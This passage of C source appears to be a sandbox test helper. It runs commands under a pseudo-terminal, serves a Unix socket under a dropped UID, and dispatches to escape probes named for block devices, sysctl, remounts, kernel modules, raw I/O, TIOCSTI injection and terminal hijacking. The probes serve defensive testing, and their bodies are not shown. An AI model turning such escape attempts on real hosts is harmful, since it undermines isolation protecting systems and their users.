			*(argv[i][1] == 'w' ? &start.file : &start.text) = val;
			continue;
		}
		if (!strcmp(argv[i], "-s")) {
			if (parse_size(val, &ws) < 0)
				usage();
			continue;
		}
		ev[n] = (struct timed){ .at = strtod(val, NULL), .what = argv[i][1], .text = colon ? colon + 1 : "" };
		if (ev[n].what == 'r' && parse_size(colon + 1, &ev[n].ws) < 0)
			usage();
		if (ev[n].what == 'x') { /* and its end */
			ev[n + 1] = (struct timed){ .at = ev[n].at + strtod(colon + 1, NULL), .what = 'X' };
			n++;
		}
		if (ev[n].what == 'i')
			ev[n].text = unescape_octal(colon + 1);
		n++;
	}
	if (i >= argc - 1)
		usage();
	master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
		return 2;
	ioctl(master, TIOCSWINSZ, &ws);
	slave = open(ptsname(master), O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (slave < 0)
		return 2;
	pid = fork();
	if (pid == 0) {
		setsid();
		ioctl(slave, TIOCSCTTY, 0);
		dup2(slave, 0), dup2(slave, 1), dup2(slave, 2);
		execvp(argv[i + 1], argv + i + 1);
		_exit(127);
	}
	fcntl(master, F_SETFL, O_NONBLOCK);
	return relay_until_exit(master, slave, pid, ev, n, &start);
}

/* `serve SOCKET [UID]` (on the host, for t-rundir): a SEQPACKET socket bound at SOCKET that
 * listens, as UID if given (bound before the switch: the listener's credentials are UID's), and
 * never answers. Prints "ready" once it listens; runs until killed. */
static int serve(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int fd;

	if (argc < 3 || argc > 4 || strlen(argv[2]) >= sizeof(sa.sun_path))
		usage();
	strcpy(sa.sun_path, argv[2]);
	fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 2;
	if (argc == 4 && (setgid((gid_t)atoi(argv[3])) < 0 || setuid((uid_t)atoi(argv[3])) < 0))
		return 2;
	if (listen(fd, 1) < 0)
		return 2;
	puts("ready");
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	if (argc < 2)
		usage();
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (strcmp(argv[1], "blockdev") == 0)
		return attack_blockdev(argc, argv);
	if (strcmp(argv[1], "sysctl") == 0)
		return attack_sysctl(argc, argv);
	if (strcmp(argv[1], "remount") == 0)
		return attack_remount(argc, argv);
	if (strcmp(argv[1], "sysrw") == 0)
		return attack_sysrw(argc, argv);
	if (strcmp(argv[1], "kmsg") == 0 && argc == 2)
		return attack_kmsg();
	if (strcmp(argv[1], "cgroup") == 0)
		return attack_cgroup(argc, argv);
	if (strcmp(argv[1], "module") == 0 && argc == 2)
		return attack_module();
	if (strcmp(argv[1], "rawio") == 0 && argc == 2)
		return attack_rawio();
	if (strcmp(argv[1], "devnodes") == 0 && argc == 2)
		return attack_devnodes();
	if (strcmp(argv[1], "swapper") == 0)
		return swapper(argc, argv);
	if (strcmp(argv[1], "serve") == 0)
		return serve(argc, argv);
	if (strcmp(argv[1], "exchange") == 0)
		return exchange(argc, argv);
	if (strcmp(argv[1], "hijack") == 0)
		return hijack(argc, argv);
	if (strcmp(argv[1], "tiocsti") == 0 && argc == 2)
		return tiocsti();
	if (strcmp(argv[1], "tcooff") == 0 && argc == 2)
		return tcooff();
	if (strcmp(argv[1], "operator") == 0)
		return operator_(argc, argv);
	usage();
}
